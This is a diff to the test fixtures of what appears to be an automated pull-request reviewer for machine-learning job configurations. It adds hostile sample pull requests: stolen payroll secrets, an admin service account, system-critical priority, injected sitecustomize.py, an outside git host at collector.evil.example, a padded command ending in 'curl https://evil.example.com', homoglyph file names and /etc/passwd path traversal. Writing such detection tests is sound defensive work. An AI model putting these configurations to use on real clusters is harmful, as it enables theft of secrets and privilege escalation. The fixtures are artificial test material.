@@ -28,6 +28,7 @@ BOMB = "storage: {claim: runs}\na: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".joi
     f"{name}: &{name} [{', '.join([f'*{before}'] * 10)}]\n" for before, name in zip("abcdef", "bcdefg", strict=True)
 )
 EVIL = "`<img src=x onerror=alert(1)>` @everyone | a \\| b <!-- tfd review --> [x](https://evil.example.com) ``` # *b*"
+ALL = ("system-cluster-critical", "`admin`", "payroll", "`*`", "sitecustomize.py")
 INJECTION = f"""{RUN}owner: "{EVIL.replace(chr(92), chr(92) * 2)}"
 description: |
   ```
@@ -38,6 +39,44 @@ description: |
   \u202eright to left\u202c and zero\u200bwidth
 args: ["{EVIL.replace(chr(92), chr(92) * 2)}"]
 """
+
+TAKES_ALL = f"""{changed(RUN, ("gpus: 1}", "gpus: 16, tolerations: [{operator: Exists}]}"))}\
+scheduling: {{priorityClassName: system-cluster-critical}}
+serviceAccountName: admin
+env: [{{name: A, valueFrom: {{secretKeyRef: {{name: payroll, key: password}}}}}}]
+code: {{files: {{sitecustomize.py: "import os"}}}}
+"""
+BOARD = f"chartVersion: {VERSION}\nstrategy: None\nstorage: {{claim: runs}}\n"
+GIT = (
+    f"{{repository: 'https://collector.evil.example/repo', commit: {40 * 'b'}, tokenSecret: {{name: git, key: token}}}}"
+)
+LARGE = "{requests: {cpu: 96, memory: 900Gi}, limits: {memory: 900Gi}}"
+# What the first ten lines of the review comment must have: what a hostile pull request takes, and from whom.
+TAKEN: dict[str, tuple[str, ...]] = {
+    "hostile-start-among-archived-runs": (*ALL, "vision/zz", "64 GPUs", "20 runs archived"),
+    "hostile-first-run-of-a-team": (*ALL, "speech/first", "64 GPUs"),
+    "hostile-laundering-first-step": (*ALL, "vision/digits-42", "64 GPUs", "once active"),
+    "hostile-laundering-second-step": (*ALL, "vision/digits-42", "64 GPUs"),
+    "hostile-resumed": (*ALL, "vision/digits-41", "64 GPUs"),
+    "hostile-rules-emptied": (
+        "⚠️",
+        "review.yaml",
+        "tfd/review/analysis/policy.py",
+        ".github/workflows/review.yaml",
+        ".github/CODEOWNERS",
+    ),
+    "hostile-job-with-its-judges": ("Makefile", "pyproject.toml", "requirements/dev.txt", "docs/.gitattributes"),
+    "hostile-long-command": ("⚠️", "Not shown in full", "the middle of a command", "curl https://evil.example.com"),
+    "hostile-board-grows": ("vision/board", "CPUs to 96 CPUs", "900 GiB memory"),
+    "hostile-priority-of-the-system": ("vision/digits-42", "system-node-critical"),
+    "hostile-bucket-of-another-team": ("vision/digits-42", "gs://speech-runs/all", "secret-model"),
+    "hostile-git-host": ("vision/digits-42", "https://collector.evil.example/repo", "Secrets: `git`"),
+    "hostile-secret-in-a-comment": ("❌", "literalSecrets", "envv"),
+    "hostile-invisible-letters": ("❌", "U+0443", "U+3164"),
+    "hostile-200-files": (*ALL, "vision/zz", "64 GPUs"),
+    "hostile-renamed-team": (*ALL, "visi0n/digits-41", "64 GPUs"),
+    "hostile-different-rights": ("6 runs", *(f"secret-{n}" for n in range(6))),
+}
 
 CASES: dict[str, Case] = {
     # New runs.
@@ -167,6 +206,64 @@ CASES: dict[str, Case] = {
             "jobs/top.yaml": RUN,
         },
         MERGED,
+    ),
+    "hostile-start-among-archived-runs": Case(
+        {f"jobs/vision/a-{n:02}.yaml": changed(ARCHIVED, ("20000", f"{n + 1}")) for n in range(20)}
+        | {"jobs/vision/zz.yaml": TAKES_ALL}
+    ),
+    "hostile-first-run-of-a-team": Case({"jobs/speech/first.yaml": TAKES_ALL}, MERGED),
+    "hostile-laundering-first-step": Case({NEW: f"{TAKES_ALL}state: archived\n"}, MERGED),
+    "hostile-laundering-second-step": Case(
+        {NEW: changed(TAKES_ALL, ("20000", "20001"))}, {OLD: f"{TAKES_ALL}state: archived\n"}
+    ),
+    "hostile-resumed": Case({OLD: TAKES_ALL}, {OLD: f"{TAKES_ALL}state: suspended\n"}),
+    "hostile-rules-emptied": Case(
+        {
+            "review.yaml": "rules: {}\n",
+            "tfd/review/analysis/policy.py": "",
+            ".github/workflows/review.yaml": "on: push\n",
+            ".github/CODEOWNERS": "",
+            **{f"!{n}.md": "words\n" for n in range(9)},
+        },
+        MERGED,
+    ),
+    "hostile-job-with-its-judges": Case(
+        {NEW: FASTER, "Makefile": "", "pyproject.toml": "", "requirements/dev.txt": "", "docs/.gitattributes": "* x\n"},
+        MERGED,
+    ),
+    "hostile-long-command": Case(
+        {NEW: f"{RUN}command: [sh, -c, 'python train.py {1200 * 'x'}; curl https://evil.example.com']\n"}, MERGED
+    ),
+    "hostile-board-grows": Case(
+        {"jobs/vision/board.yaml": f"{BOARD}tensorboard: {{resources: {LARGE}}}\n"}, {"jobs/vision/board.yaml": BOARD}
+    ),
+    "hostile-priority-of-the-system": Case(
+        {NEW: f"{FASTER}scheduling: {{priorityClassName: system-node-critical}}\n"}, MERGED
+    ),
+    "hostile-bucket-of-another-team": Case(
+        {NEW: changed(FASTER, ("{claim: runs}", "{uri: gs://speech-runs/all}")) + "warmStartFrom: secret-model\n"},
+        MERGED,
+    ),
+    "hostile-git-host": Case({NEW: f"{FASTER}code: {{git: {GIT}}}\n"}, MERGED),
+    "hostile-secret-in-a-comment": Case(
+        {NEW: f"{FASTER}# the key: ghp_{36 * 'x'}\nenvv: [{{name: A, value: hunter2}}]\n"}, MERGED
+    ),
+    "hostile-invisible-letters": Case(
+        {NEW: f"{FASTER}serviceAccountName: b\u0443ilder\n", "jobs/vision/digits\u3164-1.yaml": FASTER,
+         "docs/\u202egnp.md": "x\n"}, MERGED
+    ),
+    "hostile-200-files": Case(
+        {f"jobs/vision/a-{n:03}.yaml": "a: 1\n" for n in range(199)} | {"jobs/vision/zz.yaml": TAKES_ALL}
+    ),
+    "hostile-renamed-team": Case(
+        {OLD: None, "jobs/visi0n/digits-41.yaml": TAKES_ALL}, {OLD: f"{TAKES_ALL}state: suspended\n"}
+    ),
+    "hostile-different-rights": Case(
+        {
+            f"jobs/vision/b-{n}.yaml": ONE_GPU
+            + f"env: [{{name: A, valueFrom: {{secretKeyRef: {{name: secret-{n}, key: k}}}}}}]\n"
+            for n in range(6)
+        }
     ),
     "link-deleted": Case({NEW: None}, MERGED | {NEW: f"{LINK}digits-41.yaml"}),
     "hostile-link": Case({NEW: f"{LINK}../../../../etc/passwd"}, MERGED),
